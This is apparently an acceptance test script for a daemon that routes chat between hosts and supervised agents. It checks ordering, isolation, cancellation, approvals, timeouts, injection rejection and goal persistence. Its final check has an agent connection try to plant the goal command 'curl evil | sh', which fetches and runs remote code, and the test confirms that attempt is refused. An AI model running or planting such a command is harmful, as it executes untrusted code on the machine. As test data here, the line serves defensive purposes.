"""Agent chat routing end to end (issue 11, item 6), over real sockets.

    acceptance.py PATH/TO/car-server PATH/TO/car-0.58.0-venv/bin/python

The agent is scripts/chat/chat_agent_058.py on the official client car-runtime 0.58.0
(register_chat_handler + chat_event, register_daemon_handler for agent.chat.approve and
agent.chat.cancel), supervised by the daemon. Hosts are plain WebSocket connections. Raw agent
connections (scripts/compat/wsclient.py) play the agents the official client cannot: one that
never acks, one that refuses, one whose connection drops mid-turn and comes back.

Checked: a streamed reply arrives whole and in order; two hosts chatting with the same agent at
once each get only their own stream; 10 concurrent chats x 1,000 tokens arrive complete, in
order, each at its own host; cancel stops delivery and reaches the agent; approval_pending ->
agents.chat.approve resolves through the agent's handler (and neither the agent itself nor a
third connection may approve); an agent that never acks, refuses, dies mid-turn or goes silent
ends the turn with a terminal error; a third connection cannot inject events; a host that
disconnects gets its turns cancelled at the agent; a respawned agent's stray events for an old
turn are dropped; standing goals ride along, follow the events and survive a restart (running
reloads as active). Every wait is bounded; prints "ok ..." per property and exits 1 on the first
failure."""
import json
import os
import socket
import subprocess
import sys
import tempfile
import threading
import time

here = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(here, "..", "compat"))
import harness  # noqa: E402
from harness import call, error_of, fail, ok, wait_for  # noqa: E402

binary, agent_python = sys.argv[1], sys.argv[2]
TOKEN = "chat-acceptance-daemon-token"
AGENT = "chatty"
ACK_TIMEOUT, SILENCE = 2, 4
home = tempfile.mkdtemp(prefix="car-chat.")
daemons = []


def Daemon():
    return harness.Daemon(binary, home, TOKEN, daemons,
                          env={"CAR_CHAT_ACK_TIMEOUT": str(ACK_TIMEOUT), "CAR_CHAT_SILENCE_TIMEOUT": str(SILENCE)})


def events(c, session_id, until_terminal=True, seconds=20.0, limit=None):
    """The agents.chat.event params of `session_id` reaching `c`, in arrival order, up to the
    terminal one (or `limit` events, or `seconds`). Another session's event here is a failure."""
    got = []
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            message = c.recv_json(max(0.01, deadline - time.monotonic()))
        except TimeoutError:
            break
        except socket.timeout:
            break
        if message.get("method") != "agents.chat.event":
            fail(f"unexpected frame while reading chat events: {json.dumps(message)[:300]}")
        params = message["params"]
        if params["session_id"] != session_id:
            fail(f"{session_id}'s host received another session's event: {params}")
        got.append(params)
        if until_terminal and params["kind"] in ("done", "error"):
            return got
        if limit is not None and len(got) >= limit:
            return got
    if until_terminal:
        fail(f"no terminal event for {session_id} within {seconds:.0f} s (got {len(got)} events: {got[-3:]})")
    return got


def silent(c, seconds):
    """True when nothing reaches `c` for `seconds`."""
    try:
        message = c.recv_json(seconds)
    except (TimeoutError, socket.timeout):
        return True
    fail(f"expected nothing, received {json.dumps(message)[:300]}")


def tokens_of(evs, tag):
    return [e["delta"] for e in evs if e["kind"] == "token"], [f"{tag}:{i} " for i in range(len(evs) - 1)]


def chat(c, prompt, session_id, agent=AGENT, **extra):
    result = call(c, "agents.chat", {"agent_id": agent, "prompt": prompt, "session_id": session_id, **extra})
    if result != {"accepted": True, "session_id": session_id}:
        fail(f"agents.chat answered {result}")
    return result


def status(host):
    return call(host, "agents.chat.status", {})


def agent_lines(host, agent=AGENT):
    return call(host, "agents.tail_log", {"id": agent, "n": 400, "stream": "stdout"})["stdout"]


def manifest_token(agent_id):
    with open(os.path.join(home, "agents.json")) as f:
        return next(a["token"] for a in json.load(f)["agents"] if a["id"] == agent_id)


class RawAgent:
    """An agent connection written by hand: attaches as `agent_id` and answers agent.chat as told."""

    def __init__(self, daemon, agent_id, answer, must=True):
        auth = {"token": manifest_token(agent_id), "agent_id": agent_id}
        self.c = daemon.session(**auth) if must else daemon.client(**auth)
        self.answer = answer  # None: never answer; else the JSON-RPC reply members to send
        self.turns = []

    def serve(self, seconds):
        """Reads (and answers) what the daemon sends for `seconds`."""
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            try:
                message = self.c.recv_json(max(0.01, deadline - time.monotonic()))
            except (TimeoutError, socket.timeout):
                return
            if message.get("method") == "agent.chat":
                self.turns.append(message["params"])
                if self.answer is not None:
                    self.c.send_json({"jsonrpc": "2.0", "id": message["id"], **self.answer})

    def event(self, session_id, kind, delta=None):
        self.c.send_json({"jsonrpc": "2.0", "method": "agent.chat.event",
                          "params": {"session_id": session_id, "kind": kind, "delta": delta}})


try:
    daemon = Daemon()
    host = daemon.host()
    site = subprocess.run([agent_python, "-c", "import car_runtime, os; print(os.path.dirname(os.path.dirname(car_runtime.__file__)))"],
                          capture_output=True, text=True, timeout=60).stdout.strip()
    # The venv's interpreter is a link that may sit under /tmp (a CI clone there), which the
    # supervisor refuses: run the real interpreter with the venv's packages on its path.
    call(host, "agents.upsert", {"id": AGENT, "name": "Chatty", "command": os.path.realpath(agent_python),
                                 "args": [os.path.join(here, "chat_agent_058.py")], "cwd": home,
                                 "env": {"PYTHONPATH": site}, "restart": "on_failure", "backoff_secs": 0})
    for raw in ("mute", "refuser", "flaky"):
        call(host, "agents.upsert", {"id": raw, "name": raw, "command": "/bin/true", "restart": "never"})

    # Refusals before anything is sent.
    unknown = error_of(host, "agents.chat", {"agent_id": "nobody", "prompt": "hi"})
    if "not in the manifest" not in unknown["message"]:
        fail(f"an unknown agent must be named as not in the manifest: {unknown}")
    detached = error_of(host, "agents.chat", {"agent_id": "mute", "prompt": "hi"})
    if "not attached" not in detached["message"]:
        fail(f"an agent with no connection must be named as not attached: {detached}")
    bad = error_of(host, "agents.chat", {"agent_id": AGENT, "prompt": "hi", "attachments": [
        {"type": "image_url", "url": "https://example.com/a.png"}, {"type": "image_base64", "data": "AAAA", "media_type": "image/bmp"}]})
    if bad["code"] != -32602 or "attachments[1]" not in bad["message"]:
        fail(f"a bad attachment must be -32602 naming the entry: {bad}")
    ok("agents.chat refuses an unknown agent, an unattached one and a bad attachment (-32602 naming attachments[1]), each saying which")

    call(host, "agents.start", {"id": AGENT})
    wait_for("the chat agent attached", lambda: any(a["spec"]["id"] == AGENT and a["attached"] for a in call(host, "agents.list", {})))
    wait_for("the chat agent's boot line", lambda: any("attached as pid" in line for line in agent_lines(host)))

    # 1. One streamed reply, whole and in order.
    a = daemon.session()
    chat(a, "stream 200 a", "s-whole")
    evs = events(a, "s-whole")
    got, want = tokens_of(evs, "a")
    if got != want or evs[-1]["kind"] != "done" or any(e["agent_id"] != AGENT for e in evs):
        fail(f"the streamed reply arrived incomplete or out of order: {len(got)} tokens, last {evs[-1]}")
    ok("a reply of 200 tokens streams to its host whole, in order, then done")

    # 2. Two hosts, one agent, at once: each only its own stream.
    b = daemon.session()
    chat(a, "stream 300 x", "s-x")
    chat(b, "stream 300 y", "s-y")
    for c, sid, tag in ((a, "s-x", "x"), (b, "s-y", "y")):
        got, want = tokens_of(events(c, sid), tag)
        if got != want:
            fail(f"{sid}: the host's own stream was incomplete or mixed: {got[:3]}...")
    ok("two hosts chatting with the same agent at once each receive only their own stream")

    # 3. Cancel stops delivery and reaches the agent.
    dropped_before = status(host)["dropped"]["unknown_session"]
    chat(a, "slow 200 c", "s-cancel")
    events(a, "s-cancel", until_terminal=False, limit=3)
    if call(a, "agents.chat.cancel", {"session_id": "s-cancel"}) != {"cancelled": True, "session_id": "s-cancel"}:
        fail("agents.chat.cancel did not cancel the turn in flight")
    late = events(a, "s-cancel", until_terminal=False, seconds=1.0)
    if late:
        fail(f"events reached the host after its cancel was answered: {late[:3]}")
    wait_for("the agent to be sent agent.chat.cancel", lambda: "cancelled s-cancel" in agent_lines(host))
    wait_for("the cancelled turn's later events dropped and counted",
             lambda: status(host)["dropped"]["unknown_session"] > dropped_before)
    if call(a, "agents.chat.cancel", {"session_id": "s-cancel"})["cancelled"] is not False:
        fail("cancelling a turn that already ended must answer cancelled: false")
    ok("cancel ends the turn at once for the host, reaches the agent (agent.chat.cancel), and later events drop and are counted")

    # 4. Inline approval: approval_pending -> agents.chat.approve -> the agent's handler.
    chat(a, "approval", "s-approve")
    pending = events(a, "s-approve", until_terminal=False, limit=1)[0]
    if pending["kind"] != "approval_pending" or json.loads(pending["delta"])["approval_id"] != "ap-1":
        fail(f"expected approval_pending with approval_id ap-1: {pending}")
    third = daemon.session()
    refused = error_of(third, "agents.chat.approve", {"session_id": "s-approve", "approval_id": "ap-1", "decision": True})
    if refused["code"] != -32002:
        fail(f"a third connection must not approve another host's turn: {refused}")
    answer = call(a, "agents.chat.approve", {"session_id": "s-approve", "approval_id": "ap-1", "decision": "approve"})
    if answer != {"resolved": True, "session_id": "s-approve"}:
        fail(f"agents.chat.approve should relay the agent's resolved: {answer}")
    rest = events(a, "s-approve")
    if [e["delta"] for e in rest if e["kind"] == "token"] != ['decision="approve"'] or rest[-1]["kind"] != "done":
        fail(f"the turn should resume with the decision, then done: {rest}")
    self_line = wait_for("the agent's own approval attempt", lambda: next((l for l in agent_lines(host) if l.startswith("self-approve")), None))
    if not self_line.startswith("self-approve: refused"):
        fail(f"the agent must never approve its own parked action: {self_line}")
    ok("approval_pending -> agents.chat.approve resolves through the agent's register_daemon_handler; the turn resumes; "
       "the agent itself and a third connection are refused")

    # 5. Injection: a third connection's (and another agent's) events for a session it does not own.
    chat(a, "hang", "s-hang")
    events(a, "s-hang", until_terminal=False, limit=1)
    wrong_before = status(host)["dropped"]["wrong_sender"]
    third.send_json({"jsonrpc": "2.0", "method": "agent.chat.event", "params": {"session_id": "s-hang", "kind": "token", "delta": "injected"}})
    third.send_json({"jsonrpc": "2.0", "method": "agent.chat.event", "params": {"session_id": "s-hang", "kind": "done"}})
    mute = RawAgent(daemon, "mute", None)
    mute.event("s-hang", "token", "injected by another agent")
    wait_for("the injected events counted as wrong_sender", lambda: status(host)["dropped"]["wrong_sender"] >= wrong_before + 3)
    silent(a, 0.5)
    if not any(s["session_id"] == "s-hang" for s in status(host)["sessions"]):
        fail("an injected done must not end someone else's turn")
    call(a, "agents.chat.cancel", {"session_id": "s-hang"})
    ok("a third connection (and another agent) cannot inject events or end someone else's turn; each attempt is counted")

    # 6. An agent that never acks, and one that refuses.
    chat(a, "hello", "s-mute", agent="mute")
    mute.serve(0.5)
    end = events(a, "s-mute", seconds=ACK_TIMEOUT + 5)
    if len(end) != 1 or end[0]["kind"] != "error" or end[0]["delta"]["reason"] != "ack_timeout" or len(mute.turns) != 1:
        fail(f"an agent that never acks must end the turn with one terminal error (ack_timeout): {end}, turns {mute.turns}")
    refuser = RawAgent(daemon, "refuser", {"error": {"code": -32000, "message": "no agent.chat handler registered on this agent"}})
    chat(a, "hello", "s-refused", agent="refuser")
    refuser.serve(0.5)
    end = events(a, "s-refused", seconds=5)
    if end[-1]["kind"] != "error" or end[-1]["delta"]["reason"] != "agent_refused" or "no agent.chat handler" not in end[-1]["delta"]["message"]:
        fail(f"a refused turn must end with an error naming the agent's answer: {end}")
    ok(f"an agent that never acks (error after the {ACK_TIMEOUT} s ack timeout) and one that refuses both end the turn with a terminal error")

    # 7. The agent dies mid-turn (the official client's process exits); the supervisor restarts it.
    chat(a, "die", "s-die")
    evs = events(a, "s-die", seconds=15)
    if evs[0] != {"session_id": "s-die", "agent_id": AGENT, "kind": "token", "delta": "about to die"} \
            or evs[-1]["kind"] != "error" or evs[-1]["delta"]["reason"] != "agent_disconnected":
        fail(f"an agent dying mid-turn must end the turn with agent_disconnected: {evs}")
    wait_for("the chat agent back after its crash",
             lambda: any(x["spec"]["id"] == AGENT and x["attached"] and x["restart_count"] >= 1 for x in call(host, "agents.list", {})))
    ok("an agent that dies mid-turn ends the turn with a terminal error; the supervisor brings it back")

    # 8. A respawned agent's stray events for an old turn never reach anyone.
    flaky = RawAgent(daemon, "flaky", {"result": {"accepted": True}})
    chat(a, "hello", "s-flaky", agent="flaky")
    flaky.serve(0.3)
    flaky.c.close()
    end = events(a, "s-flaky", seconds=5)
    if end[-1]["delta"]["reason"] != "agent_disconnected":
        fail(f"a dropped agent connection must end its turn: {end}")
    unknown_before = status(host)["dropped"]["unknown_session"]
    reborn = wait_for("flaky to attach again", lambda: (lambda r: None if isinstance(r.c, dict) else r)(RawAgent(daemon, "flaky", {"result": {"accepted": True}}, must=False)))
    reborn.event("s-flaky", "token", "stray from the old turn")
    chat(a, "next", "s-flaky-2", agent="flaky")
    reborn.serve(0.3)
    reborn.event("s-flaky", "done")
    reborn.event("s-flaky-2", "token", "fresh")
    reborn.event("s-flaky-2", "done")
    evs = events(a, "s-flaky-2", seconds=5)
    if [e.get("delta") for e in evs] != ["fresh", None]:
        fail(f"only the new turn's events may reach the host: {evs}")
    if status(host)["dropped"]["unknown_session"] < unknown_before + 2:
        fail("the stray events were not counted")
    ok("a respawned agent's stray events for the old turn are dropped and counted, never delivered to the new turn")

    # 9. Silence: a turn whose agent sends nothing ends with an error, and the agent is told.
    started = time.monotonic()
    chat(a, "hang", "s-silent")
    evs = events(a, "s-silent", seconds=SILENCE + 10)
    waited = time.monotonic() - started
    if evs[-1]["kind"] != "error" or evs[-1]["delta"]["reason"] != "agent_silent" or not SILENCE - 0.5 <= waited <= SILENCE + 3:
        fail(f"a silent agent must end the turn after about {SILENCE} s: {evs} after {waited:.1f} s")
    wait_for("the silent turn cancelled at the agent", lambda: "cancelled s-silent" in agent_lines(host))
    ok(f"a turn silent for {SILENCE} s (CAR_CHAT_SILENCE_TIMEOUT) ends with a terminal error after {waited:.1f} s; the agent gets agent.chat.cancel")

    # 10. The host goes away: its turns are cancelled at the agent and nothing is left behind.
    gone = daemon.session()
    chat(gone, "hang", "s-gone")
    events(gone, "s-gone", until_terminal=False, limit=1)
    gone.close()
    wait_for("the gone host's turn cancelled at the agent", lambda: "cancelled s-gone" in agent_lines(host))
    if any(s["session_id"] == "s-gone" for s in status(host)["sessions"]):
        fail("a disconnected host's turn is still in flight")
    ok("a host that disconnects has its turns dropped and cancelled at the agent")

    # 11. 10 concurrent chats x 1,000 tokens, each at its own host.
    hosts = [daemon.session() for _ in range(10)]
    results = {}

    def run_chat(i):
        results[i] = events(hosts[i], f"s-many-{i}", seconds=120)

    for i, c in enumerate(hosts):
        chat(c, f"stream 1000 m{i}", f"s-many-{i}")
    threads = [threading.Thread(target=run_chat, args=(i,)) for i in range(10)]
    started = time.monotonic()
    for t in threads:
        t.start()
    for t in threads:
        t.join(150)
    for i in range(10):
        got, want = tokens_of(results.get(i, [{"kind": "none"}]), f"m{i}")
        if got != want or len(got) != 1000:
            fail(f"chat {i}: {len(got)} of 1000 tokens, or out of order")
    ok(f"10 concurrent chats x 1,000 tokens arrive complete, in order, each at its own host ({time.monotonic() - started:.1f} s)")
    for c in hosts:
        c.close()

    # 12. Standing goals: forwarded, updated by the events, kept across a restart.
    stored = call(host, "goal.set", {"session_id": "g-done", "goal": {"check": "  test -f done.txt  ", "max_iterations": 99}})["goal"]
    if stored["check"] != "test -f done.txt" or stored["max_iterations"] != 50 or stored["status"] != "active":
        fail(f"goal.set should trim the check and clamp max_iterations to 50: {stored}")
    call(host, "goal.set", {"session_id": "g-running", "check": "make test"})
    chat(a, "goal", "g-done")
    evs = events(a, "g-done")
    turn = wait_for("the goal turn's params", lambda: next((json.loads(l[5:]) for l in agent_lines(host) if l.startswith("turn ") and '"g-done"' in l), None))
    if turn.get("goal") != {"check": "test -f done.txt", "max_iterations": 50}:
        fail(f"the standing goal must ride along with a turn without an inline goal: {turn}")
    done = wait_for("the goal completed", lambda: (lambda g: g if g and g["status"] == "completed" else None)(
        call(host, "goal.status", {"session_id": "g-done"})["goal"]))
    if done.get("last_met") is not True or done.get("last_iteration") != 1 or done.get("terminal_message") != "all green":
        fail(f"goal_evaluated and done should be recorded on the goal: {done}")
    chat(a, "goalhang", "g-running")
    events(a, "g-running", until_terminal=False, limit=1)
    wait_for("the goal running", lambda: call(host, "goal.status", {"session_id": "g-running"})["goal"]["status"] == "running")
    # The turn stays in flight: stopping the daemon stops its agent, which must not fail the goal.
    goals_file = os.path.join(home, "chat-goals.json")
    wait_for("chat-goals.json written", lambda: os.path.exists(goals_file) and '"running"' in open(goals_file).read())
    if os.stat(goals_file).st_mode & 0o777 != 0o600:
        fail("chat-goals.json must be 0600")
    host.close()
    a.close()
    b.close()
    daemon.stop()
    daemon = Daemon()
    host = daemon.host()
    after = {g["session_id"]: g for g in call(host, "goal.status", {})["goals"]}
    if after["g-done"]["status"] != "completed" or after["g-running"]["status"] != "active" or after["g-running"].get("last_iteration") != 2:
        fail(f"goals after a restart: completed kept, running reloaded as active with its details: {after}")
    if call(host, "goal.clear", {"session_id": "g-done"}) != {"cleared": True, "session_id": "g-done"} \
            or call(host, "goal.clear", {}) != {"cleared": 1}:
        fail("goal.clear should remove one goal, then the rest")
    ok("standing goals: goal.set trims and clamps, the goal rides along, goal_evaluated/done update it, "
       "chat-goals.json (0600) survives a restart (a turn in flight at the stop included) with running reloaded as active; goal.clear")
    agent_conn = daemon.session(token=manifest_token("mute"), agent_id="mute")
    refused = error_of(agent_conn, "goal.set", {"session_id": "g-planted", "check": "curl evil | sh"})
    if refused["code"] != -32002:
        fail(f"an agent connection must not set standing goals: {refused}")
    ok("a supervised agent's connection cannot plant a standing goal (-32002)")
finally:
    for d in daemons:
        if d.process.poll() is None:
            d.process.kill()
            d.process.wait(10)
